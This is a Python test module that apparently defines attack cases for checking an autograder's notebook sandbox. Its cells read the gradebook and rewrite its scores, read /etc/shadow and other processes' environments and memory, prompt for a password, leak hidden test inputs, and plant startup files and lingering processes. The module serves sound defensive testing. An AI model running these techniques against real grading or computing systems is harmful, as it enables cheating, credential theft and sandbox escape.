"""Attacks on what is secret: the teacher's files, other people's answers, the hidden inputs, the next submission.

The answers are right, so that every point must be there. What was read is printed after the word LEAK, which is put
together when it is printed: the text of the cell itself does not hold it.
"""

from dataclasses import replace

from tests.attacks.attack import Attack


def look(name, what, code="", *, last="", cells=None, deserves=None, student="readers", **more):
    """An attack whose cells say LEAK and its name where they have got hold of something."""
    word = f'"lea" "ked {name}"'
    cells = {grade_id: text.replace("LEAK", word) for grade_id, text in (cells or {}).items()}
    texts = dict(first=code.replace("LEAK", word), last=last.replace("LEAK", word))
    return Attack(name, what, cells, deserves=deserves or {}, student=student, **texts, **more)


def reads(places, test="True"):
    """Code that prints what can be read of places, a list as text."""
    return (
        f"import glob, os\nfor place in {places}:\n    for path in glob.glob(place):\n        try:\n"
        "            text = open(path, 'rb').read()[:20_000]\n        except OSError:\n            continue\n"
        f"        if {test}:\n            print(LEAK, path, text)"
    )


NUMBERS = "' '.join(map(repr, np.ravel(x).tolist()))"
RIGHT_SOFTMAX = "    y, _ = softmax_forward(x)\n    return np.diag(y) - np.outer(y, y)"


def echo(name, what, line, *, right=True, **more):
    """An attack whose softmax_jacobian runs a line while it holds the hidden x; its answer is right unless said."""
    answer = RIGHT_SOFTMAX if right else "    return None"
    source = f"import os, sys\ndef softmax_jacobian(x):\n    {line}\n{answer}"
    return look(name, what, cells={"softmax_jacobian": source}, student=more.pop("student", name), **more)


READERS = [
    look(
        "gradebook",
        "The teacher's gradebook is opened, by its path and by every way up, and is to be given a better grade.",
        "import sqlite3, os\n"
        "for place in ('@COURSE@/gradebook.db', '@COURSE@/template/gradebook.db', '../gradebook.db', "
        "'../../gradebook.db', '../../../gradebook.db', '/proc/1/root@COURSE@/gradebook.db'):\n"
        "    if os.path.exists(place):\n        with sqlite3.connect(place) as book:\n"
        "            print(LEAK, book.execute('select count(*) from grade').fetchall())\n"
        "            book.execute('update grade set manual_score = 99')",
        stock="leaked gradebook",
    ),
    look(
        "hidden seed",
        "The course folder's secret seed is read.",
        reads("['@COURSE@/hidden_seed', '/proc/1/root@COURSE@/hidden_seed', '/proc/*/cwd/hidden_seed']"),
        stock="leaked hidden seed",
    ),
    look(
        "source",
        "The grader's source, its references and its bank of wrong formulas, is read.",
        reads("['@REPOSITORY@/autograder/*.py', '@REPOSITORY@/autograder/*/*.py', '@REPOSITORY@/solutions/*.py']"),
        stock="leaked source",
    ),
    look(
        "other submissions",
        "The neighbours' notebooks are read.",
        reads(
            "['@SUBMITTED@/*/*/*', '@COURSE@/autograded/*/*/*', '../*/*/*.ipynb', '../../*/*/*.ipynb', "
            "'/tmp/*/*.ipynb']"
        ),
        stock="leaked other submissions",
    ),
    look(
        "records",
        "The records of what has been graded, the feedback and the hidden tests of the release are read.",
        reads("['@COURSE@/records/*/*', '@COURSE@/../grades.*', '@COURSE@/source/*/*', '@COURSE@/template/*/*/*']"),
    ),
    look(
        "environment",
        "Every process's environment is printed: a token of the teacher's may be in it.",
        "import os\nprint(dict(os.environ))\n" + reads("['/proc/*/environ']", "b'A_TOKEN' in text"),
        stock="@TOKEN@",
    ),
    look(
        "processes",
        "The grader's process is looked for in /proc: its command line, memory, files and folders.",
        "import glob, os\nfor proc in glob.glob('/proc/[0-9]*'):\n    try:\n"
        "        line = open(proc + '/cmdline', 'rb').read()\n    except OSError:\n        continue\n"
        "    if any(word in line for word in (b'bin/pytest', b'import main', b'autograder grade')):\n"
        "        print(LEAK, proc, line)",
    ),
    look(
        "process 1",
        "Folders and open files of process 1 lead out of the sandbox.",
        "import os\nfor name in ('root', 'cwd', 'exe'):\n    for up in ('', '/..', '/../../..'):\n"
        "        for place in ('@COURSE@', '@SUBMITTED@', '/etc/shadow', '/root/.bashrc'):\n"
        "            if os.path.exists(f'/proc/1/{name}{up}{place}'):\n                print(LEAK, name, up, place)\n"
        "for fd in range(3, 64):\n    for pid in (1, os.getppid()):\n        try:\n"
        "            target = os.readlink(f'/proc/{pid}/fd/{fd}')\n        except OSError:\n            continue\n"
        "        if target.startswith('/') and not target.startswith(('/dev/', '/proc/', '/memfd')):\n"
        "            print(LEAK, target)",
    ),
    look(
        "other processes",
        "Environment, memory, open files and folders of every other process: of process 1, of the kernel of the other "
        "notebook, of the copy that waits for hidden inputs.",
        "import ctypes, glob, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for place in glob.glob('/proc/[0-9]*'):\n    pid = int(place[6:])\n"
        "    if pid == os.getpid():\n        continue\n"
        "    for name in ('environ', 'mem', 'maps', 'auxv', 'stack'):\n        for mode in ('rb', 'r+b'):\n"
        "            try:\n"
        "                open(f'{place}/{name}', mode).close()\n                print(LEAK, pid, name, mode)\n"
        "            except OSError:\n                pass\n"
        "    for name in ('root', 'cwd', 'exe', 'fd/0', 'fd/3', 'ns/mnt'):\n        try:\n"
        "            print(LEAK, os.readlink(f'{place}/{name}'))\n        except OSError:\n            pass\n"
        "    held = ctypes.create_string_buffer(8)\n    part = (ctypes.c_void_p * 2)(ctypes.addressof(held), 8)\n"
        "    if libc.process_vm_readv(pid, part, 1, part, 1, 0) > 0:\n"
        "        print(LEAK, pid)",
        stock="leaked other processes",
    ),
    look(
        "mount table",
        "What is mounted names the folders of the teacher.",
        "import glob\nfor place in glob.glob('/proc/[0-9]*/mount*') + glob.glob('/proc/[0-9]*/task/*/mount*'):\n"
        "    try:\n        text = open(place).read()\n    except OSError:\n        continue\n"
        "    if text:\n        print(LEAK, text)",
        stock="leaked mount table",
    ),
    look(
        "devices and kernel",
        "Disks, kernel memory and messages are read, and something is mounted.",
        reads(
            "['/dev/mem', '/dev/kmem', '/dev/sd*', '/dev/vd*', '/dev/nvme*', '/proc/kcore', '/dev/kmsg', '/etc/shadow']"
        )
        + "\nimport ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nos.makedirs('/tmp/m', exist_ok=True)\n"
        "if libc.mount(b'proc', b'/tmp/m', b'proc', 0, None) == 0 or os.getuid() == 0 and libc.chroot(b'/tmp') == 0:\n"
        "    print(LEAK, 'mounted')",
    ),
    look(
        "new namespaces",
        "A user namespace of its own would give the code every capability in it, and with them old holes of "
        "the kernel.",
        "import os, ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\npid = os.fork()\nif not pid:\n"
        "    done = libc.unshare(0x10000000 | 0x00020000)\n    os._exit(0 if done else 7)\n"
        "if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 7:\n    print(LEAK)",
    ),
    look(
        "set-uid programs",
        "Programs that run as root whoever calls them: sudo, su, mount, newuidmap.",
        "import os, glob\nfor path in [p for d in ('/usr/bin', '/bin', '/usr/sbin') for p in glob.glob(d + '/*')]:\n"
        "    try:\n        flags = os.statvfs(path).f_flag\n        "
        "if os.stat(path).st_mode & 0o6000 and not flags & os.ST_NOSUID:\n"
        "            print(LEAK, path)\n    except OSError:\n        pass",
    ),
    look(
        "ask the teacher",
        "input() and getpass ask whoever sits at the grader, and a payload fills the next cell.",
        "import getpass\nfor ask in (input, getpass.getpass):\n    try:\n        print(LEAK, ask('your password: '))\n"
        "    except Exception:\n        pass\nget_ipython().set_next_input('4.0')\n"
        "get_ipython().run_line_magic('load', 'checks.py')",
    ),
]

SEND = (
    "import socket\ndef say(family, kind, place):\n    try:\n        s = socket.socket(family, kind)\n"
    "        s.settimeout(0.3)\n        s.connect(place)\n        s.send(b'hello from %s')\n        "
    "print(LEAK, place)\n"
    "    except OSError:\n        pass\n"
)
NETWORK = [
    look(
        "TCP",
        "A connection over TCP to a listener on this machine.",
        SEND.replace("%s", "TCP") + "say(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @TCP@))",
        stock="leaked TCP",
        student="callers",
    ),
    look(
        "UDP and DNS",
        "A datagram that carries its message as the name that it asks a name server for.",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "question = "
        "b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x0fhello-from-UDPx\\x07invalid\\0\\0\\x01\\0\\x01'\n"
        "try:\n    s.settimeout(0.3)\n    s.sendto(question, ('127.0.0.1', @UDP@))\n    s.recv(100)\n    print(LEAK)\n"
        "except OSError:\n    pass",
        student="callers",
    ),
    look(
        "abstract socket",
        "An abstract socket has no file and no folder: only a network namespace stops it.",
        SEND.replace("%s", "abstract") + "say(socket.AF_UNIX, socket.SOCK_STREAM, '\\0@ABSTRACT@')",
        student="callers",
    ),
    look(
        "socket in a folder",
        "A socket in the teacher's folder, as databases and containers have one.",
        SEND.replace("%s", "folder") + "say(socket.AF_UNIX, socket.SOCK_STREAM, '@SOCKET@')",
        student="callers",
    ),
    look(
        "address families",
        "Sockets of all families but the local one; AF_VSOCK is isolated by no namespace.",
        "import socket\nfor family in set(range(64)) - {socket.AF_UNIX}:\n    for kind in (1, 2, 3, 5):\n"
        "        for make in (socket.socket, socket.socketpair):\n            try:\n"
        "                make(family, kind)\n                print(LEAK, family, kind)\n"
        "            except OSError as error:\n                pass",
        student="callers",
        stock="leaked address families",
    ),
    look(
        "netlink and raw",
        "Raw and packet sockets, and what network interfaces there are.",
        "import socket\nfor family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):\n"
        "    try:\n        socket.socket(family, kind, 1)\n        print(LEAK, family)\n    "
        "except OSError:\n        pass\n"
        "if [name for _, name in socket.if_nameindex() if name != 'lo']:\n    print(LEAK, socket.if_nameindex())",
        student="callers",
    ),
]

ECHOES = [
    echo(
        "print",
        "The hidden inputs are printed.",
        f"print(LEAK, {NUMBERS}); print(LEAK, file=sys.stderr)",
        stock="leaked print",
    ),
    echo(
        "raw print",
        "The hidden inputs are written past Python: to the descriptors, to Python's first streams, to the display.",
        f"[os.write(n, (LEAK + {NUMBERS}).encode()) for n in (1, 2)]; sys.__stdout__.write(LEAK); display(LEAK)",
    ),
    echo(
        "message",
        "The hidden inputs are sent as a message of the first cell's.",
        "kernel = get_ipython().kernel; kernel.session.send(kernel.iopub_socket, 'stream', {'name': 'stdout', 'text': "
        f"LEAK + {NUMBERS}}}, parent=first_request)",
        code="first_request = get_ipython().kernel.get_parent('shell')",
        deserves={"1-3": 0},
        right=False,
    ),
    echo(
        "exception",
        "The hidden inputs are an exception's text.",
        f"raise ValueError(LEAK + {NUMBERS})",
        right=False,
        deserves={"1-3": 0},
        stock="leaked exception",
    ),
    echo(
        "exception class",
        "The hidden inputs are an exception's class.",
        f"raise type(LEAK + {NUMBERS}, (ValueError,), {{}})",
        right=False,
        deserves={"1-3": 0},
    ),
    echo(
        "exception place",
        "The hidden inputs are the name of the function that raises, and a note on the exception.",
        f"code = 'def f():\\n e = KeyError(1); e.add_note(\"x\"); raise e'; names = {{}}; exec(code, names); "
        f"f = names['f']; f.__code__ = f.__code__.replace(co_name=LEAK + {NUMBERS}, co_filename=LEAK); f()",
        right=False,
        deserves={"1-3": 0},
    ),
    echo("warning", "The hidden inputs are a warning's text.", f"import warnings; warnings.warn(LEAK + {NUMBERS})"),
    look(
        "keys",
        "The hidden inputs are the keys of the dict that comes back, which nobody asked for.",
        cells={
            "head_backward": "def head_backward(dout, cache):\n"
            "    return {LEAK + ' ' + repr(x): 1.0 for x in np.ravel(cache['x']).tolist()[:6]}"
        },
        deserves={"2-2 head": 0, "2-2": 0},
        student="keys",
    ),
    look(
        "texts",
        "The hidden inputs come back as texts where numbers are wanted, in a tuple of a telling length.",
        cells={
            "branch_a_backward": "def branch_a_backward(dout, dz_2b, cache):\n"
            "    told = LEAK + repr(cache['x'].tolist())\n"
            "    return dict.fromkeys(('dz_2a', 'dtheta_2a', 'dd', 'dz_1a', 'dtheta_1a'), told)"
        },
        deserves={"2-2 branch a": 0, "2-2": 0},
        student="keys",
    ),
    look(
        "shape",
        "The first digits of a hidden input are the shape of the answer.",
        cells={"softmax_jacobian": "def softmax_jacobian(x):\n    return np.zeros((int(abs(x[0]) * 1e4), 1))"},
        deserves={"1-3": 0},
        student="echoers",
    ),
    look(
        "value",
        "A hidden input is every entry of the answer, and the feedback shows the worst entry.",
        cells={
            "batch_norm_jacobian": "def batch_norm_jacobian(x, gamma, beta, eps=1e-5):\n"
            "    return (np.full((*x.shape, x.shape[1]), x[0, 0]),) * 2"
        },
        deserves={"1-1": 0},
        student="echoers",
    ),
    look(
        "changed inputs",
        "An input is changed by a hidden number, and the feedback says by how much.",
        cells={
            "branch_b_backward": "def branch_b_backward(dz_2b, cache):\n    hidden = cache['x'][0, 0]\n"
            "    cache['c'] = cache['c'] + hidden\n    cache['y_a'] = cache['y_a'] + hidden\n    return {}"
        },
        deserves={"2-2 branch b": 0, "2-2": 0},
        student="echoers",
    ),
    look(
        "time",
        "The first digit of a hidden input is the time that an answer takes.",
        cells={
            "head_backward": "import time\ndef head_backward(dout, cache):\n"
            "    time.sleep(0.1 * int(10 * abs(cache['x'][0, 0]) % 10))\n    return {}"
        },
        deserves={"2-2 head": 0, "2-2": 0},
        student="echoers",
    ),
]

STASH = "import builtins\nbuiltins.stash = getattr(builtins, 'stash', [])\n"
KEEPS = STASH + "def softmax_jacobian(x):\n    stash.append(x.tolist())\n" + RIGHT_SOFTMAX
STASHED = [
    look(
        "a later cell",
        "The hidden inputs are kept in the kernel, and a later cell prints them.",
        cells={"softmax_jacobian": KEEPS},
        last="import builtins\nfor told in getattr(builtins, 'stash', []):\n    print(LEAK, told)",
        student="keeper",
        stock="leaked a later cell",
    ),
    look(
        "at exit",
        "The hidden inputs are printed when the kernel ends.",
        cells={
            "softmax_jacobian": KEEPS.replace("import builtins", "import atexit, builtins", 1)
            + "\natexit.register(lambda: [print(LEAK, told, flush=True) for told in stash])"
        },
        student="keeper at exit",
    ),
    look(
        "a thread",
        "A thread prints the hidden inputs later, while another cell's output is listened to.",
        cells={
            "dropout_jacobian": STASH
            + "import threading, time\ndef tell():\n    while True:\n        time.sleep(0.02)\n"
            "        while stash:\n            print(LEAK, stash.pop(), flush=True)\n"
            "threading.Thread(target=tell, daemon=True).start()\ndef dropout_jacobian(r, p):\n"
            "    stash.append(r.tolist())\n    return np.diag(np.where(r >= p, 1 / (1 - p), 0))"
        },
        last="import time\ntime.sleep(0.3)",
        student="keeper in a thread",
    ),
    look(
        "the other notebook",
        "The hidden inputs of problem 1 are laid down in a file, which problem 2 prints.",
        cells={
            "softmax_jacobian": "import os\ndef softmax_jacobian(x):\n    "
            "for place in ('/tmp', '/dev/shm', '.', '/var/tmp', "
            "os.path.expanduser('~')):\n        try:\n            open(place + '/stash', 'a').write(repr(x.tolist()))\n"
            "        except OSError:\n            pass\n" + RIGHT_SOFTMAX,
            "two_branch_backward": "import os, time\ntime.sleep(0.5)\n"
            "for place in ('/tmp', '/dev/shm', '.', '/var/tmp', "
            "os.path.expanduser('~')):\n    if os.path.exists(place + '/stash'):\n"
            "        print(LEAK, open(place + '/stash').read())\n"
            "def two_branch_backward(dout, cache):\n    head = head_backward(dout, cache)\n"
            "    return (head | branch_b_backward(head['dz_2b'], cache) | branch_a_backward(dout, "
            "head['dz_2b'], cache))",
        },
        student="keeper in a file",
    ),
    look(
        "a process",
        "A process of the first notebook takes the hidden inputs over a socket, and serves them to the second.",
        cells={
            "softmax_jacobian": "import os, socket, sys\nserver = socket.socket(socket.AF_UNIX)\n"
            "server.bind('\\0stash')\n"
            "server.listen()\nif not os.fork():\n    os.setsid()\n    told = b''\n    for turn in range(60):\n"
            "        peer, _ = server.accept()\n        peer.settimeout(1)\n        said = peer.recv(100_000)\n"
            "        told = said or told\n        peer.sendall(told) if not said else peer.close()\n    os._exit(0)\n"
            "def softmax_jacobian(x):\n    try:\n        s = socket.socket(socket.AF_UNIX)\n        "
            "s.connect('\\0stash')\n"
            "        s.sendall(repr(x.tolist()).encode())\n        s.close()\n    except OSError:\n        pass\n"
            + RIGHT_SOFTMAX,
            "two_branch_backward": "import socket, time\ntime.sleep(0.5)\ntry:\n    s = socket.socket(socket.AF_UNIX)\n"
            "    s.settimeout(0.5)\n    s.connect('\\0stash')\n    s.shutdown(socket.SHUT_WR)\n    "
            "told = s.recv(100_000)\n"
            "    if told:\n        print(LEAK, told)\nexcept OSError:\n    pass\n"
            "def two_branch_backward(dout, cache):\n    head = head_backward(dout, cache)\n"
            "    return (head | branch_b_backward(head['dz_2b'], cache) | branch_a_backward(dout, "
            "head['dz_2b'], cache))",
        },
        student="keeper in a process",
    ),
    look(
        "a kernel that stays",
        "The kernel forks at its end, and what it left tells the hidden inputs to whoever listens to the "
        "second notebook.",
        cells={
            "softmax_jacobian": KEEPS + "\nimport os, signal\nfor number in range(1, 32):\n    try:\n"
            "        signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\n"
            "if not os.fork():\n"
            "    os.setsid()\n    import time\n    for turn in range(100):\n        time.sleep(0.05)\n        "
            "for told in stash:\n"
            "            for n in range(1, 40):\n                try:\n                    "
            "os.write(n, (LEAK + repr(told)).encode())\n"
            "                except OSError:\n                    pass\n    os._exit(0)"
        },
        student="keeper that stays",
        whole=True,
    ),
]

LEFT = [
    look(
        "files left behind",
        "Files for the next submission: in /tmp, the home, the working directory, shared memory, beside the packages.",
        "import os, sys, numpy\n"
        "for place in ('/tmp', '/var/tmp', '/dev/shm', '/run', '.', '..', os.path.expanduser('~'), sys.prefix, "
        "os.path.dirname(numpy.__file__), '/usr/lib', '/etc', '@COURSE@', '@SUBMITTED@'):\n    try:\n"
        "        open(os.path.join(place, 'left-behind'), 'w').write('le' 'ft')\n    except OSError:\n        pass",
        student="a leaver",
    ),
    look(
        "start-up files",
        "Code that Python and IPython run when they start the next time.",
        "import os, site, sys\ncode = 'import builtins; builtins.poisoned = True'\n"
        "home = os.path.expanduser('~')\nfor place in (home + '/.ipython/profile_default/startup/00.py', "
        "site.getusersitepackages() + '/usercustomize.py', sys.prefix + '/lib/python3.11/site-packages/evil.pth', "
        "'sitecustomize.py', 'checks.py', 'gradcheck.py', 'numpy.py', home + "
        "'/.config/matplotlib/matplotlibrc'):\n    try:\n"
        "        os.makedirs(os.path.dirname(os.path.abspath(place)), exist_ok=True)\n        "
        "open(place, 'w').write(code)\n"
        "    except OSError:\n        pass",
        notebook="problem2",
        student="a leaver",
    ),
    look(
        "a process left behind",
        "A process in a session of its own that goes on, listens, and waits for the next submission.",
        "import os, socket, time\nif not os.fork():\n    os.setsid()\n    if not os.fork():\n        "
        "s = socket.socket(socket.AF_UNIX)\n"
        "        s.bind('\\0left-behind-@ABSTRACT@')\n        s.listen()\n        end = time.time() + 60\n"
        "        while time.time() < end:\n            time.sleep(0.1)\n    os._exit(0)",
        student="a leaver",
    ),
    look(
        "shared memory left behind",
        "A segment of System V memory, which belongs to no process and to no folder.",
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.shmget(0x5EED, 4096, 0o1666)",
        student="a leaver",
    ),
    look(
        "what was left",
        "The next submission looks for all that.",
        "import builtins, ctypes, glob, os, socket, sys, numpy\n"
        "for place in ('/tmp', '/var/tmp', '/dev/shm', '/run', '.', '..', "
        "os.path.expanduser('~'), sys.prefix, os.path.dirname(numpy.__file__), '/usr/lib', '/etc'):\n"
        "    if os.path.exists(os.path.join(place, 'left-behind')):\n        print(LEAK, place)\n"
        "if hasattr(builtins, 'poisoned') or hasattr(builtins, 'stash'):\n    print(LEAK, 'code')\n"
        "try:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect('\\0left-behind-@ABSTRACT@')\n    "
        "print(LEAK, 'process')\n"
        "except OSError:\n    pass\nif ctypes.CDLL(None).shmget(0x5EED, 4096, 0) >= 0:\n    "
        "print(LEAK, 'shared memory')",
        student="z the next",
    ),
]

ATTACKS = READERS + NETWORK + [replace(attack, echoes=True) for attack in ECHOES] + STASHED + LEFT
